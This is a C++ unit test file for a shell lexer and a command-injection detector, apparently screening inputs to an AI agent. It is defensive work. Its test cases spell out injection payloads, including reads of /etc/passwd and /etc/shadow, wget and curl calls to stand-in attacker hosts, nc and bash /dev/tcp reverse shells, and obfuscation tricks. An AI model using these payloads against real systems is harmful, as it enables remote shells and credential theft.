#include "agent/attacks/command_injection.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

#include "agent/attacks/shell_lexer.h"

namespace rampart::attacks {
namespace {

using ::testing::ElementsAre;

TEST(ShellLexerTest, SplitsCommandsAtEverySeparator) {
  const std::vector<ShellCommand> commands = LexShell("a 1; b|c || d && e & f\ng");
  ASSERT_EQ(commands.size(), 7u);
  EXPECT_THAT(commands[0].words, ElementsAre("a", "1"));
  EXPECT_EQ(commands[1].separator, ";");
  EXPECT_EQ(commands[2].separator, "|");
  EXPECT_EQ(commands[3].separator, "||");
  EXPECT_EQ(commands[4].separator, "&&");
  EXPECT_EQ(commands[5].separator, "&");
  EXPECT_EQ(commands[6].separator, "\n");
}

TEST(ShellLexerTest, OpensCommandsForSubstitutions) {
  const std::vector<ShellCommand> commands = LexShell("x $(id -u) `whoami` y");
  ASSERT_EQ(commands.size(), 5u);
  EXPECT_EQ(commands[1].separator, "$(");
  EXPECT_THAT(commands[1].words, ElementsAre("id", "-u"));
  EXPECT_EQ(commands[2].separator, ")");
  EXPECT_EQ(commands[3].separator, "`");
  EXPECT_THAT(commands[3].words, ElementsAre("whoami"));
}

TEST(ShellLexerTest, AnEmptyStartBeforeTheFirstSeparatorIsNoCommand) {
  const std::vector<ShellCommand> commands = LexShell(";id");
  ASSERT_EQ(commands.size(), 1u);
  EXPECT_EQ(commands[0].separator, ";");
  EXPECT_THAT(commands[0].words, ElementsAre("id"));
}

TEST(ShellLexerTest, UndoesQuotingEscapesAndEmptyExpansionsInsideWords) {
  const std::vector<ShellCommand> commands = LexShell(";c'a't /e\"t\"c/pa\\sswd;w$@ho$1ami");
  ASSERT_EQ(commands.size(), 2u);
  EXPECT_THAT(commands[0].words, ElementsAre("cat", "/etc/passwd"));
  EXPECT_TRUE(commands[0].obfuscated);
  EXPECT_THAT(commands[1].words, ElementsAre("whoami"));
  EXPECT_TRUE(commands[1].obfuscated);
}

TEST(ShellLexerTest, ReadsIfsAsASpaceAndBraceListsAsWords) {
  for (const char* input : {";cat${IFS}/etc/passwd", ";cat$IFS/etc/passwd", ";{cat,/etc/passwd}"}) {
    const std::vector<ShellCommand> commands = LexShell(input);
    ASSERT_EQ(commands.size(), 1u) << input;
    EXPECT_THAT(commands[0].words, ElementsAre("cat", "/etc/passwd")) << input;
    EXPECT_TRUE(commands[0].obfuscated) << input;
  }
}

TEST(ShellLexerTest, KeepsSeparatorsInsideQuotesAsText) {
  const std::vector<ShellCommand> commands = LexShell("echo 'a;b|c' \"d&e\"");
  ASSERT_EQ(commands.size(), 1u);
  EXPECT_THAT(commands[0].words, ElementsAre("echo", "a;b|c", "d&e"));
}

TEST(ShellLexerTest, NotesRedirections) {
  const std::vector<ShellCommand> commands = LexShell(";cat</etc/passwd 2>&1");
  ASSERT_EQ(commands.size(), 1u);
  EXPECT_TRUE(commands[0].redirection);
}

struct Case {
  const char* input;
  const char* why;
};

class CommandInjectionDetectsTest : public ::testing::TestWithParam<Case> {};

TEST_P(CommandInjectionDetectsTest, ScoresAtLeastTheDefaultThreshold) {
  const Verdict verdict = DetectCommandInjection(GetParam().input);
  EXPECT_GE(verdict.score, 0.5) << GetParam().why << ": " << GetParam().input;
}

INSTANTIATE_TEST_SUITE_P(
    Payloads, CommandInjectionDetectsTest,
    ::testing::Values(Case{"127.0.0.1; cat /etc/passwd", "semicolon"}, Case{"127.0.0.1|whoami", "pipe"},
                      Case{"x || uname -a", "or-list"}, Case{"x && id", "and-list with a bare English command"},
                      Case{"$(sleep 5)", "substitution"}, Case{"`id`", "backticks"},
                      Case{"a\nwget http://evil.example/x -O /tmp/x", "newline"},
                      Case{"x;cat${IFS}/etc/passwd", "IFS"}, Case{"; c'u'rl evil.example", "quote splitting"},
                      Case{";/bin/c?t /etc/shadow", "glob"}, Case{"| nc -e /bin/sh 10.0.0.1 4444", "reverse shell"},
                      Case{"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash reverse shell"},
                      Case{"& ping -n 10 127.0.0.1 &", "windows ping"}, Case{"; {cat,/etc/passwd}", "brace list"},
                      Case{"x; /usr/bin/python3 -c 'import os'", "path-qualified interpreter"}));

class CommandInjectionIgnoresTest : public ::testing::TestWithParam<Case> {};

TEST_P(CommandInjectionIgnoresTest, ScoresBelowTheDefaultThreshold) {
  const Verdict verdict = DetectCommandInjection(GetParam().input);
  EXPECT_LT(verdict.score, 0.5) << GetParam().why << ": " << GetParam().input << " -> " << verdict.reason;
}

INSTANTIATE_TEST_SUITE_P(Benign, CommandInjectionIgnoresTest,
                         ::testing::Values(Case{"salt; pepper", "no command"}, Case{"Tom & Jerry", "ampersand"},
                                           Case{"cats | dogs | birds", "pipes in prose"},
                                           Case{"see you; cat food is on sale", "English cat with plain words"},
                                           Case{"a && echo hello", "echo with a plain word"},
                                           Case{"Hello\nid like to ask something", "newline then id as a word"},
                                           Case{"price: $5 (approx)", "dollar sign"},
                                           Case{"Use the cat command to print a file", "no separator"},
                                           Case{"FOO=1; BAR=2", "assignments only"},
                                           Case{"Run `ls -la` to list the files", "Markdown code span"},
                                           Case{"", "empty"}));

TEST(CommandInjectionTest, ReasonAndSignatureNameTheCommandFromTheList) {
  const Verdict verdict = DetectCommandInjection("x; curl http://secret-host.example/steal");
  EXPECT_EQ(verdict.signature, "cmdi curl");
  EXPECT_EQ(verdict.reason, "runs the command 'curl' after the shell separator ';'");
}

TEST(CommandInjectionTest, ShellLikeArgumentsRaiseAnAmbiguousCommand) {
  EXPECT_GT(CommandInjectionScore("; cat /etc/passwd"), CommandInjectionScore("; cat food"));
  EXPECT_GT(CommandInjectionScore("; whoami"), CommandInjectionScore("; who"));
}

}  // namespace
}  // namespace rampart::attacks
